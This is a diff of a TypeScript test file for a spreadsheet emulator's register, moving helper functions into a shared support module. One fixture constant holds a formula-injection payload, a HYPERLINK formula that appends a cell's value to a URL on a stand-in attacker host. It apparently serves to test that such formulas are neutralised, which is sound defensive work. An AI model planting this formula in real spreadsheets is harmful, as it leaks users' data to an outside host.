@@ -6,33 +6,14 @@
  * formula live in the requests, disclosures or audit tabs either, within its call budget; the
  * formulas outside the register's block are rewritten in one block write, not one call each.
  */
-import * as path from 'node:path';
 import { Emulator } from '../../src/emulator/app';
-import { openDemo } from '../../src/demo/seed';
 import { OWNER, STAFF } from '../../src/emulator/accounts';
 import { columnLetter } from '../../src/gas/cells';
+import { call, demo, formulas } from '../support/register';
 
-const dist = path.resolve(__dirname, '../../dist');
-const demo = () => openDemo({ distDir: dist, stateFile: null, fresh: true });
 
 const LINK = '=HYPERLINK("http://evil.example/?"&A2)';
 const DUE = 'rekisteri.repairDue';
-
-function formulas(em: Emulator, sheet?: string): { sheet: string; row: number; column: number; formula: string }[] {
-  const out: { sheet: string; row: number; column: number; formula: string }[] = [];
-  for (const name of sheet ? [sheet] : em.world.spreadsheet.sheetNames()) {
-    em.world.spreadsheet.snapshot(name)!.formulas.forEach((r, i) => r.forEach((f, j) => {
-      if (f !== '') out.push({ sheet: name, row: i + 1, column: j + 1, formula: f });
-    }));
-  }
-  return out;
-}
-
-function call<T = Record<string, unknown>>(em: Emulator, fn: string, arg: unknown, user = STAFF): T {
-  const report = em.callFromClient(fn, arg === undefined ? [] : [arg], user);
-  if (!report.ok) throw new Error(report.error!.message);
-  return report.result as T;
-}
 
 const width = (em: Emulator) => (em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as unknown[]).length;
 const hold = (em: Emulator) => em.world.locks.holdExternally('document', em.world.now + 60_000);
